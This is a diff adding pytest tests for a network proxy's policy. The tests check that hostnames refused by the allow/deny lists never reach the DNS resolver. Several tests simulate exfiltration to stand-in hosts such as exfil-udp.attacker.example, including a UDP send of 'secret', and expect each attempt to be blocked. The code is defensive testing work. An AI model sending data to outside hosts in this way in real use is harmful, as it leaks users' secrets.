@@ -4,14 +4,19 @@ TCP and UDP.
 
 Every answer form that names the proxy itself (A, AAAA, IPv4-mapped,
 unspecified) is refused as a loop (508 / SOCKS 0x02 / a dropped datagram)
-instead of opening a connection into the proxy (issue 11, defect 1)."""
+instead of opening a connection into the proxy (issue 11, defect 1).
+
+A name the policy refuses anyway is never looked up: the test resolver
+counts zero queries for it on every path (defect 8)."""
+import json
 import shutil
 import socket
 import tempfile
 
 import pytest
 
-from conftest import NetNS, Proxy, http_get, network_config, Raw
+from conftest import (ORIGIN_V4, NetNS, Proxy, Raw, binary, http_get,
+                      network_config)
 from socks5util import Socks, parse_udp, request, socks_port, udp_header
 from test_41_socks5_ns import in_ns
 
@@ -22,6 +27,13 @@ ZONE = {
     "loop-mapped-any.test": {"AAAA": ["::ffff:0.0.0.0"]},
     "loop-any4.test": {"A": ["0.0.0.0"]},
     "loop-any6.test": {"AAAA": ["::"]},
+    # Names an exfiltrating client would use: resolvable, unlisted.
+    "exfil-http.attacker.example": {"A": [ORIGIN_V4]},
+    "exfil-connect.attacker.example": {"A": [ORIGIN_V4]},
+    "exfil-socks.attacker.example": {"A": [ORIGIN_V4]},
+    "exfil-udp.attacker.example": {"A": [ORIGIN_V4]},
+    "exfil-check.attacker.example": {"A": [ORIGIN_V4]},
+    "denied.test": {"A": [ORIGIN_V4]},
 }
 
 # (name, the address the proxy listens on for that form)
@@ -186,3 +198,73 @@ def test_socks5_udp_replies_name_the_canonical_address(ns, ns_proxy):
     finally:
         a.close()
         echo.close()
+
+
+# ---------------------------------------------------------------------------
+# Defect 8: refused names never reach the resolver
+# ---------------------------------------------------------------------------
+REFUSING = {"*.test": "allow", "denied.test": "deny"}
+
+
+def connect_status(p, name, port):
+    c = Raw(p.port, p.host)
+    try:
+        c.send(f"CONNECT {name}:{port} HTTP/1.1\r\n"
+               f"Host: {name}:{port}\r\n\r\n".encode())
+        return c.read_response().status
+    finally:
+        c.close()
+
+
+def test_refused_names_are_never_looked_up(ns, ns_proxy):
+    p = ns_proxy(local_binding=False, domains=REFUSING)
+    r = in_ns(ns, lambda: http_get(
+        p, "http://exfil-http.attacker.example/"))
+    assert r.status == 403
+    assert r.header("x-proxy-error") == "blocked-by-allowlist"
+    assert in_ns(ns, lambda: connect_status(
+        p, "exfil-connect.attacker.example", 443)) == 403
+    assert in_ns(ns, lambda: socks_connect(
+        p, "exfil-socks.attacker.example", 80)) == 2
+    r = in_ns(ns, lambda: http_get(p, "http://denied.test/"))
+    assert r.header("x-proxy-error") == "blocked-by-denylist"
+    a = in_ns(ns, lambda: Udp(p))
+    try:
+        a.sendto(b"secret", "exfil-udp.attacker.example", 53)
+        p.wait_for(r"blocked UDP to exfil-udp.attacker.example:53 .*: "
+                   r"not_allowed \(baseline_policy\)")
+    finally:
+        a.close()
+    # An allowed name is still checked for local addresses, by lookup.
+    # The server answers in order, so once this query shows, any query
+    # for the names above would have shown before it.
+    r = in_ns(ns, lambda: http_get(p, "http://loop-a.test/"))
+    assert r.status == 403
+    assert b"not_allowed_local" in r.body, r.body
+    ns.dns.wait_for(r"dns: query loop-a\.test ")
+    for name in ("exfil-http.attacker.example",
+                 "exfil-connect.attacker.example",
+                 "exfil-socks.attacker.example",
+                 "exfil-udp.attacker.example", "denied.test"):
+        assert ns.dns_queries(name) == 0, (name, ns.dns.text())
+
+
+def test_policy_check_does_not_look_up_a_refused_name(ns, workdir):
+    cfg = network_config(REFUSING, local_binding=False)
+    path = f"{workdir}/config.toml"
+    with open(path, "w") as f:
+        f.write(cfg)
+    r = ns.run(binary("paddock"), "policy", "check", "--config", path,
+               "--system-config", "", "--home", workdir, "--cwd", workdir,
+               "--json", "--protocol", "http",
+               "exfil-check.attacker.example", check=False)
+    assert r.returncode == 1, r.stderr
+    assert json.loads(r.stdout)["reason"] == "not_allowed", r.stdout
+    # An allowed name is looked up; its query shows after any earlier one.
+    r = ns.run(binary("paddock"), "policy", "check", "--config", path,
+               "--system-config", "", "--home", workdir, "--cwd", workdir,
+               "--json", "--protocol", "http", "loop-any4.test",
+               check=False)
+    assert json.loads(r.stdout)["reason"] == "not_allowed_local", r.stdout
+    ns.dns.wait_for(r"dns: query loop-any4\.test ")
+    assert ns.dns_queries("exfil-check.attacker.example") == 0
